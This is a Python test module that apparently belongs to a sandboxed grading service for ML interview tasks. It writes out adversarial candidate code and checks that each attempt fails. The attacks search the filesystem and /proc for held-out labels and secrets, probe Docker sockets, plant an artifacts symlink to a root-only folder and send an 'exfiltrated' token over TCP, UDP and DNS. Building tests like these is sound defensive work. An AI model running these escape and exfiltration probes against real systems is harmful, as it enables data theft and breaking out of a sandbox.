"""The attack catalogue: candidate training and prediction code that tries to cheat or break out.

Each attack below is a real tumor_triage workspace whose train.py and/or model.py attacks the
runner: the bubblewrap sandboxes (runner/sandbox/bwrap.py), the trusted measurement of the artifact
(runner/budget/artifacts.py, skops_count.py, canonical.py) or the scorer (runner/scoring/pipeline.py,
scoring.py). It is submitted through the public API (``pitfalls.service.api.submit``, probes off), with
the real sandboxes, counter and scorer; nothing is mocked. Every test then asserts

(a) that the attempt failed in the way that matters: the secret is in nothing the candidate gets
    back (the candidate view of every submission, ``history``, the files of the workspace), the
    budget is enforced with the exact violation, or the process was stopped and nothing it
    started outlived it; and
(b) that the session goes on: an honest submission of the same workspace, right after the
    attack, scores.

The honest candidate is a short pipeline of our own (imputer, scaler, balanced logistic
regression: what the reference solution does), written over the reference overlay, so the
text of the reference solution stays a secret the attacks can look for. Attack code reports
what it found on stdout (``ATTACK <phase> <json>``): printing is the candidate's channel back
(``log_tail``), so assertions read the findings from there, as a cheating candidate would.

Attacks that need the time budgets run on a copy of the scaffold with shorter budgets
(``SHORT_BUDGETS``). Attacks that succeed against the current runner are strict xfails that
raise one of the exception classes below; their reasons say what is open and where.

The submissions are made by one module fixture, two attacks at a time (each attack and its
honest follow-up in order, in a session of their own); each attack's test then checks its
outcome, so pytest ids, -k and failures stay per attack.

Cheaper single cases live in test_bad_input.py (bad predictions, training bombs, endless
training), test_secrecy.py (the full filesystem/proc/network survey) and tests/unit/test_budget_*.py
(the counter on hand-built artifacts); the attacks here are the ones those do not already make.
"""

from __future__ import annotations

import base64
import errno
import glob
import io
import json
import os
import random
import re
import shutil
import socket
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from textwrap import dedent, indent

import numpy as np
import pytest

from conftest import REPO
from pitfalls.budget.code_count import count_code, free_code
from pitfalls.core.results import SubmissionResult, Violation
from pitfalls.library.metrics import public_mask
from pitfalls.library.scaffold import load_scaffold
from pitfalls.library.variants import materialize
from pitfalls.sched import thread_env
from pitfalls.scoring.jobs import JOB_HEADROOM_MB
from pitfalls.service import api
from test_bad_input import _host_processes as host_processes
from test_secrecy import _host_ips as host_ips

TUMOR = REPO / "scaffolds" / "tumor_triage"
HARNESS = REPO / "runner" / "sandbox" / "harness" / "predict.py"
SHORT_BUDGETS = {"train_seconds = 60\n": "train_seconds = 15\n",
                 "predict_seconds = 30\n": "predict_seconds = 12\n",
                 "max_file_mb = 64\n": "max_file_mb = 16\nmax_disk_mb = 128\n"}
SHORT_TRAIN_SECONDS, SHORT_PREDICT_SECONDS, SHORT_FILE_MB, SHORT_DISK_MB = 15, 12, 16, 128
LABEL_WINDOW = 32  # a run of this many held-out labels in order is a leak (chance: ~1e-7 per run)


class Leak(AssertionError):
    """A secret (held-out labels, a root-only host file) reached the candidate."""


class Smuggled(AssertionError):
    """Numbers reached the predictor without being counted against the parameter budget."""


class Escaped(AssertionError):
    """Candidate code got outside its limits, or made the runner's own process act."""


# =============================================================================================
# The honest candidate, and how attacks are built from it
# =============================================================================================

HONEST_MODEL = '''\
import skops.io as sio

TARGET = "malignant"
POST_OUTCOME = ["referral_code"]  # assigned after the outcome: not a feature


def featurize(df):
    return df.drop(columns=[TARGET, *POST_OUTCOME], errors="ignore")


def load_model(path):
    return sio.load(path, trusted=sio.get_untrusted_types(file=path))


def predict(model, features):
    return model.predict(featurize(features))
'''

HONEST_TRAIN = '''\
import os

import pandas as pd
import skops.io as sio
from sklearn.impute import SimpleImputer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

from model import TARGET, featurize

df = pd.read_csv("data/train.csv")
model = make_pipeline(SimpleImputer(strategy="median"), StandardScaler(),
                      LogisticRegression(class_weight="balanced", max_iter=5000))
model.fit(featurize(df), df[TARGET])
# <before save>
os.makedirs("artifacts", exist_ok=True)
sio.dump(model, "artifacts/model.skops")
# <after save>
print("training done", flush=True)
'''

HONEST = {"model.py": HONEST_MODEL, "train.py": HONEST_TRAIN}

REPORT = '''\
import json as _json


def report(phase, **found):
    """The attack's way back: one line of its own log (the candidate sees log_tail)."""
    text = _json.dumps(found, default=str)
    if len(text) > 1500:
        text = _json.dumps({"truncated": text[:1400]})
    print(f"ATTACK {phase} {text}", flush=True)


'''


def code(*parts: str) -> str:
    """Snippets written at any indentation, joined as one block of module-level code."""
    return "\n".join(dedent(p).strip("\n") for p in parts) + "\n"


def train_py(*, before_save: str = "", after_save: str = "") -> str:
    """The honest train.py with attack code run just before or just after the model is saved."""
    return (HONEST_TRAIN.replace("# <before save>\n", code(before_save) if before_save else "")
            .replace("# <after save>\n", code(after_save) if after_save else ""))


def model_py(tail: str = "", head: str = "") -> str:
    """The honest model.py with ``report`` and ``head`` first and ``tail`` (often a wrapper
    around the honest ``load_model`` or ``predict``) last."""
    return REPORT + code(head) + "\n" + HONEST_MODEL + "\n" + code(tail)


# A probe defined in model.py (``def probe() -> dict``) that runs in both sandboxes.
PROBE_IN_PREDICT = '''
_honest_predict = predict


def predict(model, features):
    report("predict", **probe())
    return _honest_predict(model, features)
'''
PROBE_IN_TRAIN = '''
from model import probe, report
report("train", **probe())
'''


def in_both_phases(probe: str) -> dict[str, str]:
    return {"model.py": model_py(code(probe, PROBE_IN_PREDICT)), "train.py": train_py(after_save=PROBE_IN_TRAIN)}


def in_training(after_save: str = "", *, before_save: str = "") -> dict[str, str]:
    return {"model.py": model_py(), "train.py": train_py(before_save=before_save, after_save=after_save)}


def in_prediction(model_tail: str) -> dict[str, str]:
    return {"model.py": model_py(model_tail), "train.py": HONEST_TRAIN}


# =============================================================================================
# The host side: secrets, listeners and markers an attack must not reach
# =============================================================================================

@cache
def heldout_labels() -> np.ndarray:
    return load_scaffold(TUMOR).dataset().heldout["malignant"].to_numpy()


@cache
def label_windows() -> frozenset[str]:
    labels = "".join(map(str, heldout_labels()))
    return frozenset(labels[i:i + LABEL_WINDOW] for i in range(len(labels) - LABEL_WINDOW + 1))


@cache
def secret_lines() -> frozenset[str]:
    """Distinctive lines of what only the interviewer and the runner have: the reference solution,
    the guide, the dataset hooks and probes, the dataset seed and the private calibration."""
    public = "\n".join(p.read_text() for p in [TUMOR / "brief.md", *(TUMOR / "workspace").glob("*.py")])
    lines = {f"seed = {load_scaffold(TUMOR).manifest.dataset_seed}"}
    for rel in ("solution/model.py", "solution/train.py", "GUIDE.md", "scaffold.py", "probes.py", "mutants.toml"):
        lines |= {s for s in map(str.strip, (TUMOR / rel).read_text().splitlines()) if len(s) >= 30}
    toml = (TUMOR / "scaffold.toml").read_text().splitlines()
    lines |= {line.strip() for line in toml if line.startswith("reference_private")}
    return frozenset(line for line in lines if line not in public)


@dataclass
class Host:
    token: str  # digits only: it also names processes (`sleep 600.<token>`)
    home: Path
    ws: Path
    secret_dir: Path  # 0700, root-only files: model.skops (with the canary) and labels.npy
    canary: str
    tcp_lo: socket.socket  # listening on 127.0.0.1
    tcp_any: socket.socket  # listening on 0.0.0.0
    udp: socket.socket  # bound to 0.0.0.0
    placeholders: dict[str, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.placeholders = {
            "__TOKEN__": self.token, "__HOME__": str(self.home), "__WS__": str(self.ws), "__REPO__": str(REPO),
            "__MARK__": self.mark, "__SECRET__": str(self.secret_dir),
            "__PORT_LO__": str(self.tcp_lo.getsockname()[1]), "__PORT_ANY__": str(self.tcp_any.getsockname()[1]),
            "__PORT_UDP__": str(self.udp.getsockname()[1]), "__HOST_IPS__": json.dumps(host_ips())}

    @property
    def mark(self) -> str:
        """Prefix of host paths the attacks try to create (the sandbox's /tmp is private)."""
        return f"/tmp/pitfalls-attack-{self.token}"

    def render(self, text: str) -> str:
        """Attack code with the host's paths, ports and token filled in."""
        for key, value in self.placeholders.items():
            text = text.replace(key, value)
        return text

    def escapes(self) -> list[str]:
        """Files the attacks try to create outside their sandboxes, found on the host."""
        found = glob.glob(f"{self.mark}*")
        for base in (self.ws, self.ws.parent, self.home, TUMOR, Path("/tmp"), Path("/")):
            found += [str(p) for p in base.glob(f"escaped-{self.token}*")]
        db = self.home / "pitfalls.sqlite"  # the attacks append "escaped <token>" where they can
        if db.exists() and f"escaped {self.token}".encode() in db.read_bytes():
            found.append(str(db))
        return found

    def arrivals(self) -> list[str]:
        """Anything that reached the host's listeners."""
        got = []
        for sock in (self.tcp_lo, self.tcp_any):
            try:
                conn, peer = sock.accept()
                got.append(f"tcp connection from {peer}")
                conn.close()
            except BlockingIOError:
                pass
        try:
            data, peer = self.udp.recvfrom(512)
            got.append(f"udp {data[:40]!r} from {peer}")
        except BlockingIOError:
            pass
        return got


@contextmanager
def host_side(tmp_path: Path, home: Path) -> Iterator[Host]:
    import skops.io as sio
    from sklearn.preprocessing import StandardScaler

    token = f"{random.randrange(10**11, 10**12)}"
    secret_dir = tmp_path / "host-secret"
    secret_dir.mkdir(mode=0o700)
    canary = f"CANARY_{token}"
    scaler = StandardScaler().fit(np.arange(12.0).reshape(6, 2))
    scaler.owner_note = canary  # e.g. another candidate's artifact, readable by the runner only
    sio.dump(scaler, secret_dir / "model.skops")
    np.save(secret_dir / "labels.npy", heldout_labels())  # a root-only file that happens to hold labels
    for f in secret_dir.iterdir():
        f.chmod(0o600)
    socks = []
    for family, kind, addr in ((socket.AF_INET, socket.SOCK_STREAM, "127.0.0.1"),
                               (socket.AF_INET, socket.SOCK_STREAM, "0.0.0.0"),
                               (socket.AF_INET, socket.SOCK_DGRAM, "0.0.0.0")):
        s = socket.socket(family, kind)
        s.bind((addr, 0))
        if kind == socket.SOCK_STREAM:
            s.listen(8)
        s.setblocking(False)
        socks.append(s)
    try:
        yield Host(token=token, home=home, ws=tmp_path / "ws", secret_dir=secret_dir, canary=canary,
                   tcp_lo=socks[0], tcp_any=socks[1], udp=socks[2])
    finally:
        for s in socks:
            s.close()


def assert_no_leftovers(token: str, grace: float = 5.0) -> None:
    deadline = time.monotonic() + grace
    while (left := host_processes(token)) and time.monotonic() < deadline:
        time.sleep(0.2)
    if left:
        raise Escaped(f"processes started by the candidate outlived the submission: {left}")


def workspace_files(ws: Path) -> dict[str, bytes]:
    return {p.relative_to(ws).as_posix(): p.read_bytes() for p in sorted(ws.rglob("*")) if p.is_file()}


# =============================================================================================
# What came back, and the checks every attack gets
# =============================================================================================

@dataclass
class Outcome:
    attack: Attack
    result: SubmissionResult  # the attack's submission
    honest: SubmissionResult  # the honest submission right after it
    history: list[SubmissionResult]
    host: Host
    files: dict[str, str]  # what the attack submitted
    workspace_changes: list[str]  # files of the candidate's workspace that the submission changed
    escaped: list[str]  # files the attack tried to create, found on the host
    arrived: list[str]  # what reached the host's listeners

    @property
    def reports(self) -> dict[str, dict]:
        """The attack's ``ATTACK <phase> <json>`` lines, by phase."""
        found = {}
        for line in self.result.log_tail.splitlines():
            if line.startswith("ATTACK "):
                phase, _, payload = line[len("ATTACK "):].partition(" ")
                found[phase] = json.loads(payload)
        return found

    def report(self, phase: str) -> dict:
        assert phase in self.reports, (f"the attack's {phase} report must reach log_tail (it is the "
                                       f"positive control that the attack ran):\n{brief(self.result)}")
        found = self.reports[phase]
        assert "truncated" not in found, f"the {phase} report is too long to check: {found}"
        return found

    def returned(self) -> list[str]:
        """Every text the candidate can get back: candidate views of both submissions and the
        history, and any file that changed in the workspace."""
        views = [self.result.candidate_view(), self.honest.candidate_view(),
                 *(r.candidate_view() for r in self.history)]
        return _strings(views) + self.workspace_changes


def _strings(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for k, v in value.items() for s in (*_strings(k), *_strings(v))]
    if isinstance(value, (list, tuple)):
        return [s for v in value for s in _strings(v)]
    return [str(value)] if value is not None else []


def brief(r: SubmissionResult) -> str:
    return json.dumps({"status": r.status, "message": r.message, "violations": [v.__dict__ for v in r.violations],
                       "params": r.params, "timings": r.timings, "log_tail": r.log_tail[-2500:]}, indent=1, default=str)


def label_runs(text: str) -> list[str]:
    """Sequences of 0/1 values in ``text``: contiguous runs, and standalone 0/1 numbers
    (``0``, ``1.0``) joined in order, whatever separates them."""
    runs = re.findall(r"[01]{%d,}" % LABEL_WINDOW, text)
    runs.append("".join(re.findall(r"(?<![\w.])([01])(?:\.0+)?(?![\w.])", text)))
    return runs


def assert_no_labels(texts: list[str], where: str) -> None:
    windows = label_windows()
    for run in label_runs("\n".join(texts)):
        for i in range(len(run) - LABEL_WINDOW + 1):
            if run[i:i + LABEL_WINDOW] in windows:
                raise Leak(f"{where}: {LABEL_WINDOW} held-out labels in a row: {run[i:i + LABEL_WINDOW]}")


def assert_nothing_leaked(o: Outcome) -> None:
    texts = o.returned()
    joined = "\n".join(texts)
    assert_no_labels(texts, o.attack.name)
    own = {line.strip() for text in [*o.files.values(), *HONEST.values()] for line in text.splitlines()}
    for line in secret_lines() - own:
        if line in joined:
            raise Leak(f"a line only the runner and interviewer have reached the candidate: {line!r}")
    for secret in (str(o.host.home), o.host.canary, str(TUMOR)):
        if any(secret in text for text in o.files.values()):
            continue  # the attack names it itself (and may print its own attempts)
        if secret in joined:
            raise Leak(f"{secret!r} reached the candidate")
    for r in (o.result, o.honest):
        for private, public in ((r.private_score, r.score), (r.private_normalized, r.normalized)):
            if private is None:
                continue
            shown = set() if public is None else {repr(public), f"{public:.6f}"}
            for form in {repr(private), f"{private:.6f}"} - shown:
                # whole numbers only, and not a duration: a private 1.0 must not match a timing of
                # 1.07 or "predicted 1.0 s" (both seen in CI)
                standalone = re.compile(rf"(?<![\d.]){re.escape(form)}(?![\d])(?!\s*s\b)")
                assert not standalone.search(joined), f"the private slice's {form} is in the candidate's view"


def assert_nothing_escaped(o: Outcome) -> None:
    if o.escaped:
        raise Escaped(f"candidate code created files on the host: {o.escaped}")
    if o.arrived:
        raise Escaped(f"candidate code reached the host's listeners: {o.arrived}")
    assert not o.workspace_changes, f"the submission changed the candidate's workspace: {o.workspace_changes}"
    assert o.host.token not in HARNESS.read_text(), "the prediction sandbox wrote into the harness"


# ----- expectations: how an attack must fail -------------------------------------------------

def rejected(o: Outcome, constraint: str, *phrases: str) -> Violation:
    r = o.result
    assert r.status == "rejected", brief(r)
    assert [v.constraint for v in r.violations] == [constraint], brief(r)
    v = r.violations[0]
    assert v.message and v.message in r.message, brief(r)
    for phrase in phrases:
        assert phrase in r.message, f"{phrase!r} not in the message: {r.message!r}"
    return v


def failed(o: Outcome, *phrases: str) -> None:
    r = o.result
    assert r.status == "failed" and r.violations == [], brief(r)
    for phrase in phrases:
        assert phrase in r.message + r.log_tail, f"{phrase!r} not in the message or log: {brief(r)}"


def scored(o: Outcome) -> None:
    assert o.result.status == "scored", brief(o.result)


def code_cost(files: dict[str, str]) -> int:
    """The prediction code's share of the count (runner/budget/code_count.py) for a tumor_triage model.py."""
    scaffold = load_scaffold("tumor_triage")
    return count_code({"model.py": files["model.py"]}, free_code(scaffold.root.resolve(), ("model.py",))).total


def over_budget_by(extra: int, attribute: str | None) -> Callable[[Outcome], None]:
    """Rejected over max_params, with the honest model's count plus exactly ``extra`` (plus what
    the attack's own model.py costs beyond the honest one's), and ``attribute`` among the 12
    largest details (None: the attack's values are charged one per element key, so none of
    them is among the largest and the exact total is what pins them)."""
    def expect(o: Outcome) -> None:
        v = rejected(o, "max_params", "must store at most 2,000 parameters")
        assert v.limit == 2000
        extra_code = code_cost(o.files) - code_cost(HONEST)
        assert v.actual == o.honest.params + extra + extra_code, (v.actual, o.honest.params, extra, v.details)
        assert o.result.params == v.actual
        if attribute is not None:
            assert any(attribute in key for key in v.details), v.details
        assert "(prediction code)" in v.details and v.details["(prediction code)"] == code_cost(o.files), v.details
        assert "predict_seconds" not in o.result.timings  # rejected before any prediction ran
    return expect


def code_over_budget(extra_bytes: int = 0) -> Callable[[Outcome], None]:
    """Rejected over max_code_kb, with the exact size of model.py after training."""
    def expect(o: Outcome) -> None:
        v = rejected(o, "max_code_kb", "Prediction code must be at most 64 KiB")
        size = len(o.files["model.py"].encode()) + extra_bytes
        assert size > 64 * 1024 and v.limit == 64 and v.actual == round(size / 1024, 1), (v.actual, size)
        assert "predict_seconds" not in o.result.timings
    return expect


def artifact_refused(*phrases: str) -> Callable[[Outcome], None]:
    def expect(o: Outcome) -> None:
        v = rejected(o, "artifact", *phrases)
        assert v.actual == "unusable", v
        assert "predict_seconds" not in o.result.timings
    return expect


def not_smuggled(hidden: int) -> Callable[[Outcome], None]:
    """``hidden`` numbers hidden in the artifact must be counted (or the artifact refused)
    rather than reach the predictor uncounted."""
    def expect(o: Outcome) -> None:
        got = o.reports.get("predict", {}).get("recovered", 0)
        counted = (o.result.params or 0) >= hidden
        if got >= hidden and not counted:
            raise Smuggled(f"the predictor recovered {got:,} hidden numbers from an artifact counted as "
                           f"{o.result.params:,} parameters (budget 2,000); status {o.result.status}")
        assert o.result.status == "rejected" or counted, brief(o.result)
    return expect


def no_label_information(o: Outcome) -> None:
    """The scorer's words describe the predictions only: no run of labels, no target name, no
    class count of the held-out set (or a slice of it) other than numbers the message must carry."""
    r = o.result
    text = r.message + json.dumps([v.__dict__ for v in r.violations], default=str)
    assert "malignant" not in text.lower(), text
    labels = heldout_labels()
    mask = public_mask(len(labels), fraction=0.5, seed=load_scaffold(TUMOR).data_seed())
    counts = {int(s.sum()) for s in (labels, labels[mask], labels[~mask])}
    counts |= {int((1 - s).sum()) for s in (labels, labels[mask], labels[~mask])}
    legit = {0, 1, 2, len(labels), len(labels) + 1, *o.reports.get("predict", {}).get("legit", [])}
    numbers = {int(n) for n in re.findall(r"(?<![\d.])\d+(?![\d.])", text)}
    assert not (counts - legit) & numbers, f"held-out class counts {(counts - legit) & numbers} in: {text}"


def assert_listing(o: Outcome) -> None:
    """Prediction saw only the prediction code and the counted artifact."""
    assert o.report("predict")["listing"] == ["model.py", "model.skops"]


def assert_equal(a: object, b: object) -> None:
    assert a == b, (a, b)


def assert_startswith(text: str, prefix: str) -> None:
    assert text.startswith(prefix), text


def both(*checks: Callable[[Outcome], None]) -> Callable[[Outcome], None]:
    def expect(o: Outcome) -> None:
        for check in checks:
            check(o)
    return expect


# =============================================================================================
# The attacks
# =============================================================================================

@dataclass(frozen=True)
class Attack:
    name: str
    files: dict[str, str]
    expect: Callable[[Outcome], None]
    short: bool = False  # on the copy of the scaffold with SHORT_BUDGETS
    hole: str = ""  # why it is a strict xfail: the attack succeeds against the current runner
    raises: type[AssertionError] = AssertionError

    def param(self):
        marks = [pytest.mark.xfail(strict=True, raises=self.raises, reason=self.hole)] if self.hole else []
        return pytest.param(self, id=self.name, marks=marks)


def _floats(n: int, seed: int = 0) -> np.ndarray:
    return np.random.default_rng(seed).normal(size=n)


# ----- 1. secrecy: looking for the held-out labels and the reference solution ----------------

WALK = r'''
import gzip
import os

PARTS = ("heldout", "holdout", "tumor", "tumour", "wdbc", "breast_cancer")  # in a name
NAMES = ("guide.md", "scaffold.toml", "mutants.toml", "probes.py", "solution")  # a whole name


def walk_for_labels():
    """Every file of the filesystem (but /proc, /sys, /dev) whose name gives it away or whose
    table has a `malignant` column; the label column of such a table, as a string."""
    found = {"labelled": {}, "named": [], "n_files": 0}
    for root, dirs, files in os.walk("/"):
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        if root == "/workspace/data":
            continue  # the candidate's own training data
        for name in files + dirs:
            if name.lower() in NAMES or any(part in name.lower() for part in PARTS):
                found["named"].append(os.path.join(root, name))
        for name in files:
            found["n_files"] += 1
            if not name.lower().endswith((".csv", ".csv.gz", ".tsv", ".data")):
                continue
            path = os.path.join(root, name)
            try:
                with (gzip.open if name.endswith(".gz") else open)(path, "rt", errors="replace") as fh:
                    header = fh.readline(65536).strip().split(",")
                    if "malignant" in header:
                        col = header.index("malignant")
                        found["labelled"][path] = "".join(l.split(",")[col].strip() for l in fh)[:300]
            except (OSError, ValueError, IndexError, EOFError):
                pass
    return found
'''


def _expect_walk(phase: str, named: list[str]) -> Callable[[Outcome], None]:
    def expect(o: Outcome) -> None:
        scored(o)
        found = o.report(phase)
        assert found["n_files"] > 1000, f"the walk saw only {found['n_files']} files: the probe is broken"
        assert found["labelled"] == {}, f"{phase}: labelled tables found: {found['labelled']}"
        assert found["named"] == named, f"{phase}: files found by name: {found['named']}"
        if phase == "train":  # the findings rode in the artifact to prediction, and back
            assert o.report("predict")["carried"] == json.dumps(found)[:200]
    return expect


# The editable install's files in the (mounted) site-packages name the repository: the attack
# tries the solution and the guide under every path they name, and under each parent of those.
EDITABLE_INSTALL = r'''
import glob
import os
import re
import sys

from model import report

from_install, leaked = set(), {}
for site in sys.path:
    for meta in glob.glob(os.path.join(site, "*pitfalls*")):
        for f in [meta] if os.path.isfile(meta) else glob.glob(os.path.join(meta, "*")):
            try:
                from_install.update(re.findall(r"(/[\w.+-]+(?:/[\w.+-]+)+)", open(f, errors="replace").read()))
            except OSError:
                pass
for start in sorted(from_install | {"__REPO__"}):  # and the real path, as if guessed
    base = start
    for _ in range(6):
        for rel in ("scaffolds/tumor_triage/GUIDE.md", "scaffolds/tumor_triage/solution/model.py",
                    "scaffolds/tumor_triage/scaffold.toml", "runner/scoring/pipeline.py"):
            try:
                leaked[os.path.join(base, rel)] = open(os.path.join(base, rel)).read(300)
            except OSError:
                pass
        base = os.path.dirname(base)
try:
    import pitfalls.library.scaffold
    leaked["import pitfalls"] = pitfalls.library.scaffold.load_scaffold("tumor_triage").dataset().heldout
except Exception:  # noqa: BLE001 - not importable, whichever way it fails
    pass
report("train", from_install=sorted(from_install)[:8], leaked=leaked)
'''


def _expect_editable(o: Outcome) -> None:
    scored(o)
    found = o.report("train")
    assert found["leaked"] == {}, f"the repository's files are readable in training: {list(found['leaked'])}"


HOME_PROBE = r'''
import glob
import os
import sqlite3


def probe():
    """The runner's state: the SQLite database (every submission) and the snapshots."""
    out = {}
    for home in sorted({os.environ.get("PITFALLS_HOME", ""), "__HOME__", os.path.expanduser("~/.local/share/pitfalls"),
                        "/root/.local/share/pitfalls"} - {""}):
        entry = {"exists": os.path.exists(home), "files": sorted(os.listdir(home))[:5] if os.path.isdir(home) else [],
                 "snapshots": glob.glob(os.path.join(home, "snapshots", "*", "*.tar.gz"))[:5]}
        try:
            con = sqlite3.connect(f"file:{home}/pitfalls.sqlite?mode=ro", uri=True)
            entry["rows"] = con.execute("SELECT * FROM submissions").fetchall()[:3]
        except sqlite3.Error as exc:
            entry["rows"] = type(exc).__name__
        out[home] = entry
    return {"homes": out}
'''


def _expect_home(o: Outcome) -> None:
    scored(o)
    for phase in ("train", "predict"):
        homes = o.report(phase)["homes"]
        assert "__HOME__" not in json.dumps(homes) and str(o.host.home) in homes, homes
        for home, entry in homes.items():
            assert not entry["exists"] and entry["files"] == entry["snapshots"] == [], (phase, home, entry)
            assert isinstance(entry["rows"], str), (phase, home, entry)  # the error, not rows


PROC_PROBE = r'''
import os


def probe():
    """Every process's environment and command line (the scorer's would name its state folder)."""
    secrets = ("PITFALLS", "pytest", "__HOME__", "__WS__", "__REPO__/scaffolds")
    given = open("/proc/self/environ", "rb").read().decode("utf-8", "replace").split("\0")
    out = {"pids": [], "other_environ_readable": [], "hits": [], "env": sorted(e.split("=")[0] for e in given if e)}
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        out["pids"].append(int(pid))
        for what in ("environ", "cmdline"):
            try:
                text = open(f"/proc/{pid}/{what}", "rb").read().decode("utf-8", "replace")
            except OSError:
                continue
            if what == "environ" and int(pid) != os.getpid():
                out["other_environ_readable"].append(pid)
            out["hits"] += [f"/proc/{pid}/{what}: {s}" for s in secrets if s in text]
    out["hits"] += [f"${k}: {s}" for k, v in os.environ.items() for s in secrets if s in f"{k}={v}"]
    return out
'''
# the base environment, plus the thread settings of the job's CPU slot (runner/sched/cpuset.py)
SANDBOX_ENV = {"PATH", "HOME", "LANG", "MPLBACKEND", "PYTHONDONTWRITEBYTECODE", "OMP_NUM_THREADS", "PWD",
               *thread_env(1)}


def _expect_proc(o: Outcome) -> None:
    scored(o)
    for phase, extra in (("train", {"SEED", "PYTHONPATH"}), ("predict", set())):
        found = o.report(phase)
        assert found["hits"] == [], f"{phase}: {found['hits']}"
        assert found["other_environ_readable"] == [], f"{phase}: readable environments: {found}"
        assert len(found["pids"]) <= 4 and max(found["pids"]) < 100, f"{phase}: not a fresh PID namespace: {found}"
        assert set(found["env"]) <= SANDBOX_ENV | extra, f"{phase}: environment {found['env']}"


ROOT_PROBE = r'''
import os


def probe():
    """Host files through other processes' roots, working directories and open files."""
    targets = ["__HOME__/pitfalls.sqlite", "__REPO__/scaffolds/tumor_triage/GUIDE.md", "__WS__/model.py", "/etc/shadow"]
    out = {"opened": [], "pids": 0}
    for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
        out["pids"] += 1
        paths = [f"/proc/{pid}/{link}{t}" for link in ("root", "cwd/") for t in targets]
        if pid != "self" and int(pid) != os.getpid():
            try:
                paths += [f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")]
            except OSError:
                pass
        for path in paths:
            try:
                with open(path, "rb") as fh:
                    out["opened"].append([path, fh.read(100).decode("utf-8", "replace")])
            except OSError:
                pass
    return out
'''


def _expect_root(o: Outcome) -> None:
    scored(o)
    for phase in ("train", "predict"):
        found = o.report(phase)
        assert found["pids"] >= 2 and found["opened"] == [], f"{phase}: {found}"


SOCKET_PROBE = r'''
import glob
import os
import socket


def probe():
    """The Docker engine's socket (root on the host), containerd's, a session's submit socket."""
    paths = {"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
             "/run/pitfalls/session.sock", "/var/run/pitfalls/session.sock", "__HOME__/session.sock"}
    for pattern in ("/run/**/*.sock", "/var/run/**/*.sock", "/tmp/*.sock", "/tmp/*/*.sock"):
        paths.update(glob.glob(pattern, recursive=True))
    out = {"present": [], "answers": {}}
    for path in sorted(p for p in paths if os.path.exists(p)):
        out["present"].append(path)
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(path)
            s.sendall(b"GET /containers/json HTTP/1.0\r\nHost: docker\r\n\r\n")
            out["answers"][path] = s.recv(200).decode("utf-8", "replace")
        except OSError as exc:
            out["answers"][path] = type(exc).__name__
        finally:
            s.close()
    return out
'''


def _expect_sockets(o: Outcome) -> None:
    scored(o)
    for phase in ("train", "predict"):
        found = o.report(phase)
        assert found == {"present": [], "answers": {}}, f"{phase}: {found}"


NET_PROBE = r'''
import socket


def probe():
    """Send the token to the test's listeners on the host (loopback and the host's address,
    TCP and UDP), to 1.1.1.1:53 (TCP, and a UDP DNS query), and resolve a name."""
    def tcp(host, port, family=socket.AF_INET):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect((host, port))
            s.sendall(b"exfiltrated __TOKEN__")
            return "CONNECTED"
        except OSError as exc:
            return type(exc).__name__
        finally:
            s.close()

    def udp(host, port, payload):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        try:
            s.sendto(payload, (host, port))
            return "ANSWERED " + repr(s.recv(512)[:20])
        except OSError as exc:
            return type(exc).__name__
        finally:
            s.close()

    out = {"tcp 127.0.0.1 (host listener)": tcp("127.0.0.1", __PORT_LO__),
           "tcp ::1": tcp("::1", __PORT_ANY__, socket.AF_INET6),
           "udp 127.0.0.1 (host listener)": udp("127.0.0.1", __PORT_UDP__, b"exfiltrated __TOKEN__"),
           "tcp 1.1.1.1:53": tcp("1.1.1.1", 53),
           "udp 1.1.1.1:53": udp("1.1.1.1", 53, bytes.fromhex(
               "abcd01000001000000000000076578616d706c6503636f6d0000010001"))}  # A? example.com
    for ip in __HOST_IPS__:
        out[f"tcp {ip}"] = tcp(ip, __PORT_ANY__)
        out[f"udp {ip}"] = udp(ip, __PORT_UDP__, b"exfiltrated __TOKEN__")
    try:
        socket.getaddrinfo("example.com", 443)
        out["dns"] = "RESOLVED"
    except OSError as exc:
        out["dns"] = type(exc).__name__
    out["interfaces"] = sorted(name for _, name in socket.if_nameindex())
    return out
'''


def _expect_network(o: Outcome) -> None:
    scored(o)
    for phase in ("train", "predict"):
        found = dict(o.report(phase))
        assert found.pop("interfaces") == ["lo"], f"{phase}: {found}"
        reached = {k: v for k, v in found.items() if v.startswith(("CONNECTED", "ANSWERED", "RESOLVED"))}
        assert not reached, f"{phase}: the sandbox reached {reached}"
    # and nothing arrived on the host's listeners: checked for every attack (assert_nothing_escaped)


# Training replaces its artifacts/ folder by a link to a host folder it cannot read; the runner
# (root) reads artifacts/model.skops through it, and the predictor gets a copy.
ARTIFACTS_DIR_LINK = {
    "train.py": train_py(after_save='''
        import shutil
        from model import report
        shutil.rmtree("artifacts")
        os.symlink("__SECRET__", "artifacts")
        report("train", planted=os.readlink("artifacts"))
    '''),
    "model.py": model_py('''
        _honest_predict = predict


        def predict(model, features):
            report("predict", got=type(model).__name__, note=getattr(model, "owner_note", None))
            try:
                return _honest_predict(model, features)
            except Exception:
                import numpy as np
                return np.zeros(len(features), dtype=int)
    '''),
}


def _expect_artifacts_dir_link(o: Outcome) -> None:
    assert o.report("train")["planted"] == str(o.host.secret_dir)
    if o.host.canary in json.dumps(o.result.candidate_view()):
        raise Leak(f"a root-only host file reached the predictor through a planted artifacts/ link: "
                   f"{o.reports.get('predict')} (status {o.result.status})")
    v = rejected(o, "artifact")
    assert "predict_seconds" not in o.result.timings, v


SECRECY = [
    Attack("walk_filesystem_for_labels_in_training",
           {"model.py": model_py(code(WALK, '''
               _honest_predict = predict


               def predict(model, features):
                   report("predict", carried=getattr(model, "found_", None))
